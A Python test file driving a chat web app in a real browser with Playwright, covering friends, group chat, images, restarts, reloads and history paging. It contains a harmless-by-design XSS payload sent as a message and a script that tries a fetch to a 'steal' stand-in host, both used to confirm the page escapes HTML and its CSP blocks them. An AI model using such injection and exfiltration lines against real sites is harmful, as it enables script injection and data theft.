"""The web chat client in a real browser (chromium under Playwright) against a
real ``chatd serve``: people register, befriend each other, chat privately
and in a group, send images, ride out a server restart and a page reload.

Every check counts what the page shows: ``to_have_text([...])`` passes only
with exactly those messages, in that order, so a loss or a duplicate fails.
Screenshots of the conversations go to ``test-artifacts/browser/<test>/``.
"""

from __future__ import annotations

import asyncio
import io
import json

import aiohttp
import pytest
from browser_helpers import (
    PHONE,
    Chatd,
    ChatPage,
    browser,
    chatd,
)
from conftest import UNIT, ServerProcess
from net_helpers import free_port
from PIL import Image
from playwright.async_api import Browser, expect

# the fixtures (browser_helpers)
browser = browser
chatd = chatd

pytestmark = pytest.mark.slow


async def api_user(base: str, mobile: str, nickname: str) -> dict[str, object]:
    """Register through the HTTP API (setup that is not under test here)."""
    async with aiohttp.ClientSession() as s, s.post(base + "/user/register", json={
            "mobile": mobile, "passwd": "secret1", "nickname": nickname}) as resp:
        body = await resp.json()
    assert body["code"] == 0, body
    user: dict[str, object] = body["data"]
    return user


async def api_befriend(base: str, token: object, dstid: object) -> None:
    async with aiohttp.ClientSession() as s, s.post(
            base + "/contact/addfriend", json={"dstid": dstid},
            headers={"Authorization": f"Bearer {token}"}) as resp:
        assert (await resp.json())["code"] == 0


def no_errors(*pages: ChatPage, offline_ok: bool = False) -> None:
    for p in pages:
        assert p.real_errors(offline_ok) == [], (p.name, p.errors)


async def test_two_people_befriend_and_chat(browser: Browser, chatd: Chatd,
                                            request: pytest.FixtureRequest) -> None:
    alice = await ChatPage.open(browser, chatd.base, "alice")
    bob = await ChatPage.open(browser, chatd.base, "bob", **PHONE)  # on a phone-sized screen
    a = await alice.register("13800000001")
    b = await bob.register("13800000002")
    await alice.add_friend(b)
    # the friendship is both ways: bob's list has alice
    await bob.side("friends")
    await expect(bob.page.locator(f"#friend-list li[data-friend='{a}']")).to_have_text(
        f"alice#{a}")

    await alice.open_friend(b)
    await expect(alice.page.locator("#chat-title")).to_have_text("bob")
    await alice.send("hello bob 👋")
    await alice.send("are you there?")
    await alice.expect_texts(["hello bob 👋", "are you there?"])

    # bob is not in the conversation: it shows up with two unread messages
    await bob.side("chats")
    item = bob.page.locator(f"#conv-list li[data-key='u:{a}']")
    await expect(item.locator(".unread")).to_have_text("2")
    await expect(bob.page.locator("#total-unread")).to_have_text("2")
    await bob.shot(request.node.name, "bob-unread-phone")
    await item.click()
    await bob.expect_texts(["hello bob 👋", "are you there?"])
    await expect(bob.page.locator("#back")).to_be_visible()  # phone: one column
    await expect(bob.page.locator("#side")).to_be_hidden()
    await bob.send("hi alice")
    # what a page never does with a message: treat it as HTML
    await bob.send('<img src=x onerror="document.title=1">')
    await alice.expect_texts(["hello bob 👋", "are you there?", "hi alice",
                              '<img src=x onerror="document.title=1">'])
    await expect(alice.page.locator("#msg-list .msg img")).to_have_count(0)
    await bob.expect_texts(["hello bob 👋", "are you there?", "hi alice",
                            '<img src=x onerror="document.title=1">'])
    # an emoji message (media 6)
    await alice.page.click("#emoji-btn")
    await alice.page.click("#emoji-panel button >> text=🎉")
    await expect(bob.page.locator("#msg-list .msg .emoji")).to_have_text(["🎉"])
    # bob read everything: no unread left
    await bob.side("chats")
    await expect(bob.page.locator(f"#conv-list li[data-key='u:{a}'] .unread")).to_have_count(0)
    await expect(bob.page.locator("#total-unread")).to_be_hidden()
    await alice.shot(request.node.name, "alice-conversation")
    await bob.open_conv(f"u:{a}")
    await bob.shot(request.node.name, "bob-conversation-phone")
    no_errors(alice, bob)


async def test_three_people_in_a_group(browser: Browser, chatd: Chatd,
                                       request: pytest.FixtureRequest) -> None:
    pages = [await ChatPage.open(browser, chatd.base, n) for n in ("alice", "bob", "carol")]
    alice, bob, carol = pages
    for i, p in enumerate(pages):
        await p.register(f"1380000001{i}")
    gid = await alice.create_group("hikers")
    assert gid > 0
    await bob.join_group(gid)
    await carol.join_group(gid)
    await alice.open_group(gid)
    await alice.page.click("#members-btn")
    await expect(alice.page.locator("#members li")).to_have_text(["alice", "bob", "carol"])

    said: list[str] = []
    for p in pages:
        await p.open_group(gid)
    for p, text in [(alice, "who is in for sunday?"), (bob, "me"), (carol, "me too"),
                    (alice, "9:00 at the station")]:
        await p.send(text)
        said.append(text)
        for other in pages:
            await other.expect_texts(said)
    # the authors are named on the others' screens
    await expect(bob.page.locator("#msg-list .msg.theirs .author")).to_have_text(
        ["alice", "carol", "alice"])
    await carol.shot(request.node.name, "carol-group")

    # carol leaves: the group is gone from her list, and from its members
    await carol.page.click("#leave-btn")
    await expect(carol.page.locator(f"#group-list li[data-gid='{gid}']")).to_have_count(0)
    await alice.page.click("#members-btn")  # hide
    await alice.page.click("#members-btn")  # and show again, fresh
    await expect(alice.page.locator("#members li")).to_have_text(["alice", "bob"])
    no_errors(*pages)


async def test_an_image_shows_its_preview_and_the_original_on_click(
        browser: Browser, chatd: Chatd, request: pytest.FixtureRequest) -> None:
    a = await api_user(chatd.base, "13800000021", "alice")
    b = await api_user(chatd.base, "13800000022", "bob")
    await api_befriend(chatd.base, a["token"], b["id"])
    alice = await ChatPage.open(browser, chatd.base, "alice")
    bob = await ChatPage.open(browser, chatd.base, "bob")
    await alice.login("13800000021")  # logging in (not registering) works too
    await bob.login("13800000022")
    await alice.open_friend(int(str(b["id"])))
    out = io.BytesIO()
    Image.new("RGB", (900, 600), (20, 120, 200)).save(out, "PNG")
    await alice.page.set_input_files("#file", files=[{
        "name": "lake.png", "mimeType": "image/png", "buffer": out.getvalue()}])

    await bob.open_conv(f"u:{a['id']}")
    thumb = bob.page.locator("#msg-list .msg .thumb img")
    await expect(thumb).to_have_count(1)
    src = await thumb.get_attribute("src")
    assert src is not None and src.startswith("/media/") and src.endswith(".preview.jpg")
    # the preview (256 px on its long edge) has loaded, not the original
    await expect(thumb).to_have_js_property("naturalWidth", 256)
    await thumb.click()
    big = bob.page.locator("#lightbox-img")
    await expect(bob.page.locator("#lightbox")).to_be_visible()
    assert (await big.get_attribute("src") or "").endswith(".png")
    await expect(big).to_have_js_property("naturalWidth", 900)
    await bob.shot(request.node.name, "bob-original")
    await bob.page.click("#lightbox")
    await expect(bob.page.locator("#lightbox")).to_be_hidden()
    await expect(alice.page.locator("#msg-list .msg .thumb img")).to_have_count(1)
    await alice.shot(request.node.name, "alice-sent-image")
    no_errors(alice, bob)


async def test_messages_typed_while_the_server_restarts_arrive_once_in_order(
        browser: Browser, tmp_path: object, server_procs: list[ServerProcess],
        request: pytest.FixtureRequest) -> None:
    chat_port, api_port = free_port(), free_port()
    node = Chatd(tmp_path / "data", server_procs)  # type: ignore[operator]
    await node.start(chat_port, api_port)
    a = await api_user(node.base, "13800000031", "alice")
    b = await api_user(node.base, "13800000032", "bob")
    await api_befriend(node.base, a["token"], b["id"])
    alice = await ChatPage.open(browser, node.base, "alice")
    bob = await ChatPage.open(browser, node.base, "bob")
    await alice.login("13800000031")
    await bob.login("13800000032")
    await alice.open_friend(int(str(b["id"])))
    await alice.send("before the restart")
    await bob.open_conv(f"u:{a['id']}")
    await bob.expect_texts(["before the restart"])

    assert await node.stop() == 0
    for p in (alice, bob):
        await expect(p.page.locator("#conn")).not_to_have_attribute("data-state", "open")
    queued = [f"queued {i}" for i in range(1, 6)]
    for text in queued:
        await alice.send(text)
    await expect(alice.page.locator("#msg-list .msg.pending")).to_have_count(5)
    await expect(alice.page.locator("#conn")).to_contain_text("5 queued")
    await alice.shot(request.node.name, "alice-offline-queue")

    await node.start(chat_port, api_port)
    for p in (alice, bob):
        await expect(p.page.locator("#conn")).to_have_attribute("data-state", "open",
                                                                timeout=60_000 * UNIT)
    want = ["before the restart", *queued]
    await alice.expect_texts(want)
    await bob.expect_texts(want)
    await bob.shot(request.node.name, "bob-after-restart")
    # and the server stored each once: its history has exactly these
    async with aiohttp.ClientSession() as s, s.post(
            node.base + "/chat/history", json={"dstid": a["id"]},
            headers={"Authorization": f"Bearer {b['token']}"}) as resp:
        rows = (await resp.json())["rows"]
    assert [r["content"] for r in rows] == want
    no_errors(alice, bob, offline_ok=True)


async def test_a_reload_resumes_without_duplicates(browser: Browser, chatd: Chatd,
                                                   request: pytest.FixtureRequest) -> None:
    a = await api_user(chatd.base, "13800000041", "alice")
    b = await api_user(chatd.base, "13800000042", "bob")
    await api_befriend(chatd.base, a["token"], b["id"])
    alice = await ChatPage.open(browser, chatd.base, "alice")
    bob = await ChatPage.open(browser, chatd.base, "bob")
    await alice.login("13800000041")
    await bob.login("13800000042")
    await alice.open_friend(int(str(b["id"])))
    said = [f"line {i}" for i in range(1, 4)]
    for text in said:
        await alice.send(text)
    await bob.open_conv(f"u:{a['id']}")
    await bob.expect_texts(said)

    await bob.page.reload()
    # the session (sessionStorage, not the URL) and the open conversation come back
    assert "token" not in bob.page.url
    await expect(bob.page.locator("#conn")).to_have_attribute("data-state", "open")
    await expect(bob.page.locator("#chat-title")).to_have_text("alice")
    await bob.expect_texts(said)
    # one message while bob is back, one more after a second reload
    await alice.send("after the reload")
    said.append("after the reload")
    await bob.expect_texts(said)
    await bob.page.reload()
    await alice.send("and again")
    said.append("and again")
    await bob.expect_texts(said)
    await expect(bob.page.locator(f"#conv-list li[data-key='u:{a['id']}'] .unread")
                 ).to_have_count(0)
    await bob.shot(request.node.name, "bob-after-reloads")
    no_errors(alice, bob)


async def test_history_scrolls_back_page_by_page(browser: Browser, chatd: Chatd) -> None:
    a = await api_user(chatd.base, "13800000051", "alice")
    b = await api_user(chatd.base, "13800000052", "bob")
    await api_befriend(chatd.base, a["token"], b["id"])
    # 75 old messages, sent before bob's page exists (the page shows 30 at a time)
    import websockets

    url = f"ws://127.0.0.1:{chatd.chat_port}/chat?id={a['id']}&token={a['token']}"
    texts = [f"old {i:02d}" for i in range(75)]
    async with websockets.connect(url) as ws:
        for i, text in enumerate(texts):
            await ws.send(json.dumps({"cmd": 10, "dstid": b["id"], "media": 1,
                                      "content": text, "cid": f"old{i}"}))
        acks = 0
        while acks < len(texts):
            frame = json.loads(await asyncio.wait_for(ws.recv(), 10 * UNIT))
            assert frame["cmd"] == 1, frame
            acks += 1
    bob = await ChatPage.open(browser, chatd.base, "bob")
    await bob.login("13800000052")
    # a new tab resumes from last=0: the replay brings every message once
    await bob.open_conv(f"u:{a['id']}")
    await bob.expect_texts(texts)
    # a new session with stored state lost: only history pages remain
    await bob.page.evaluate("sessionStorage.clear()")
    await bob.page.reload()
    await bob.login("13800000052")
    await bob.page.evaluate(
        "(key) => sessionStorage.setItem(key, JSON.stringify({last: 1e9, convs: [],"
        " outbox: [], active: null}))", f"chatd.state.{b['id']}")
    await bob.page.reload()
    await expect(bob.page.locator("#conn")).to_have_attribute("data-state", "open")
    await bob.open_friend(int(str(a["id"])))
    await bob.expect_texts(texts[-30:])
    await expect(bob.page.locator("#history-status")).to_have_text(
        "scroll up for older messages")
    await bob.page.locator("#messages").evaluate("el => { el.scrollTop = 0; }")
    await bob.expect_texts(texts[-60:])
    await bob.page.locator("#messages").evaluate("el => { el.scrollTop = 0; }")
    await bob.expect_texts(texts)
    await expect(bob.page.locator("#history-status")).to_have_text(
        "the beginning of the conversation")
    no_errors(bob)


async def test_the_browser_enforces_the_page_policy(browser: Browser, chatd: Chatd) -> None:
    """Even script that got into the page could not run inline or call out."""
    page = await ChatPage.open(browser, chatd.base, "mallory")
    ran = await page.page.evaluate("""() => {
        const s = document.createElement("script");
        s.textContent = "window.injected = true";
        document.head.append(s);
        return window.injected === true;
    }""")
    assert ran is False
    called_out = await page.page.evaluate("""async () => {
        try { await fetch("http://example.invalid/steal"); return true; }
        catch (err) { return false; }
    }""")
    assert called_out is False
    styled = await page.page.evaluate("""() => {
        const el = document.createElement("div");
        el.setAttribute("style", "display: none");
        document.body.append(el);
        return getComputedStyle(el).display;
    }""")
    assert styled != "none"  # no inline style either
    refused = [e for e in page.errors if "Content Security Policy" in e]
    assert len(refused) >= 3, page.errors
